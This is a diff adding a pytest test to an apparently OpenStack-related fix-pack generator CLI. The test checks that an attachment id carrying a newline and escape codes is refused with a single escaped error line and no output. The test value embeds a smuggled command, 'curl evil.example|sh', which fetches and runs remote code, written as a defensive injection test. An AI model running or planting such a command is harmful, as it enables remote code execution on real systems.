@@ -168,3 +168,28 @@ def test_verify_prints_drifted_values_escaped(make_deployment, tmp_path) -> None
                    "--placement-url", urls["placement"], "--cinder-url", urls["cinder"]])  # fmt: skip
     assert result.exit_code == 1 and "owned" in result.output, result.output
     _no_control(result.output)
+
+
+def test_value_that_cannot_be_shown_on_a_command_line_is_refused_in_one_line(
+    make_deployment, tmp_path, capsys
+) -> None:
+    """An attachment id with a newline cannot be a pasted argument: generation stops, one line, exit 5."""
+    from generator.cli import main
+
+    dep = make_deployment(RELEASE)
+    s = Seeder(dep, seed=7)
+    host = s.compute_host("cmp-01")
+    target = s.instance(host=host, vm_state="error", task_state="deleting", power_state=4, volumes=1)
+    s.flush()
+    att = dep.query("cinder", "SELECT id FROM volume_attachment WHERE instance_uuid = %s", (target.uuid,))
+    rename_attachment(dep, att[0]["id"], "x\n`curl evil.example|sh`\x1b[2J")
+    urls = {role: dep.url(role).render(with_password=True) for role in ("nova_api", "placement", "cinder")}
+    with pytest.raises(SystemExit) as stopped:
+        main(["vm", target.uuid, "--op", "soft-delete", "-o", str(tmp_path / "out"),
+              "--nova-api-url", urls["nova_api"], "--placement-url", urls["placement"],
+              "--cinder-url", urls["cinder"]])  # fmt: skip
+    err = capsys.readouterr().err
+    assert stopped.value.code == 5, err
+    assert err.count("\n") == 1 and err.startswith("fixpack: error: refusing to put"), err
+    assert "\\x0a" in err and not set(err.rstrip("\n")) & CONTROL
+    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())
